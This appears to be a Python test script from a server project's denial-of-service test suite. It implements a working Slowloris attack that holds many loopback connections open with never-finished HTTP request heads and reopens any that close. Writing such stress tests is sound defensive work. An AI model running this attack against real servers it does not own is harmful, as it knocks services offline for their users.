"""Slow clients in their own process: connections that never finish their request head.

    python -m tests.dos.slowloris URL CONNECTIONS SECONDS [ADDRESSES]

Keeps CONNECTIONS connections open for SECONDS from ADDRESSES loopback source addresses (127.0.3.1, ...;
default 40), each sending the start of a request head and then one more byte every two seconds, never its
end; a connection the server closes is opened again at once. Raises its own open-file limit; runs at the lowest
CPU priority (the attacker is another machine). Prints
``{"started": true}`` once the first CONNECTIONS are open (or tried), then ``{"opened": N, "failed": M}``.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import resource
import sys
import time
from urllib.parse import urlsplit

PARTIAL = b"GET /api/v1/values HTTP/1.1\r\nHost: plant\r\nUser-Agent: slow\r\n"


async def slow_client(host: str, port: int, source: str, until: float, counts: dict[str, int],
                      first: asyncio.Event | None) -> None:
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            counts["failed"] += 1
            await asyncio.sleep(0.2)
            continue
        finally:
            if first is not None:
                first.set()
                first = None
        counts["opened"] += 1
        try:
            writer.write(PARTIAL)
            while time.monotonic() < until:
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1024), 2.0)
                    break  # an answer (408, 503) or the end: the server closed it, open another
                writer.write(b"X")  # one more byte of header, never the end of it
        except OSError:
            pass
        finally:
            writer.close()


async def main(url: str, n: int, seconds: float, addresses: int) -> None:
    os.nice(19)  # the attacker is another machine: it does not take the server's CPU away
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    u = urlsplit(url)
    host, port = u.hostname or "127.0.0.1", u.port or 80
    counts = {"opened": 0, "failed": 0}
    until = time.monotonic() + seconds
    firsts = [asyncio.Event() for _ in range(n)]
    tasks = [asyncio.create_task(slow_client(host, port, f"127.0.3.{1 + i % addresses}", until, counts, firsts[i]))
             for i in range(n)]
    for e in firsts:
        await e.wait()
    print(json.dumps({"started": True}), flush=True)
    await asyncio.gather(*tasks)
    print(json.dumps(counts), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]) if len(sys.argv) > 4 else 40))
